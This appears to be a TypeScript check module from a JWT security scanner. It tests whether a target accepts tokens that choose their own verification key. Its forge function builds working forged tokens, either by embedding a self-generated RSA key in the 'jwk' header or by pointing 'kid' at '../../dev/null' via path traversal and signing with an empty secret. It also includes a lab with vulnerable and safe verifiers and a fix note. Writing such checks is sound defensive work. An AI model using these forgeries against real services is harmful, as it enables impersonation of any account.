import { createPublicKey, generateKeyPairSync, type KeyObject, sign, verify } from 'node:crypto';
import { hmacOf, type Jwt, writeJwt } from '../jwt.ts';
import { defineTokenCheck } from '../token-check.ts';
import { tokenLab } from '../token-lab.ts';

/** The token brings its own key, or names a file with nothing in it as the key. */
type Way = 'jwk' | 'kid';

let pair: { publicKey: KeyObject; privateKey: KeyObject } | undefined;
/** One for the process: it only has to be a key that the target has never seen. */
const ourPair = () => {
  pair ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
  return pair;
};
const signOurs = (signed: string) => sign('sha256', Buffer.from(signed), ourPair().privateKey).toString('base64url');
const signEmpty = (signed: string) => hmacOf('HS256', '', signed) ?? '';
const EMPTY_FILE = `${'../'.repeat(9)}dev/null`;

function forge({ header, claims }: Jwt, way: Way): string {
  if (way === 'kid') return writeJwt({ ...header, alg: 'HS256', kid: EMPTY_FILE }, claims, signEmpty);
  const jwk = { ...ourPair().publicKey.export({ format: 'jwk' }), use: 'sig' };
  return writeJwt({ ...header, alg: 'RS256', jwk }, claims, signOurs);
}

/** The same signature, but the key is not named. */
function control({ header, claims }: Jwt, way: Way): string {
  return way === 'kid'
    ? writeJwt({ ...header, alg: 'HS256' }, claims, signEmpty)
    : writeJwt({ ...header, alg: 'RS256' }, claims, signOurs);
}

export default defineTokenCheck<Way>({
  id: 'jwt-header-injection',
  title: 'A token chooses the key it is verified with',
  cwe: 347,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  why: 'The target takes the key from the token itself, or from a file that the token names. So everybody signs tokens for any account with a key of their own.',
  fix: 'Verify with keys that you have chosen. Ignore jwk and jku in tokens, and look kid up in a list.',
  ways: ['jwk', 'kid'],
  maxRequests: 160,
  forge,
  control,
  lab() {
    const secret = 'a-secret-that-is-in-no-list-55ad';
    const isSigned = ({ header, signed, signature }: Jwt) => hmacOf(header.alg, secret, signed) === signature;
    const isByItsOwnKey = ({ header: { jwk }, signed, signature }: Jwt) =>
      typeof jwk === 'object' &&
      jwk !== null &&
      verify(
        'sha256',
        Buffer.from(signed),
        createPublicKey({ key: { ...jwk }, format: 'jwk' }),
        Buffer.from(signature, 'base64url'),
      );
    return tokenLab((sub) => writeJwt({ alg: 'HS256' }, { sub }, (signed) => hmacOf('HS256', secret, signed) ?? ''), {
      vulnerable: (jwt) => isSigned(jwt) || isByItsOwnKey(jwt),
      safe: isSigned,
    });
  },
});
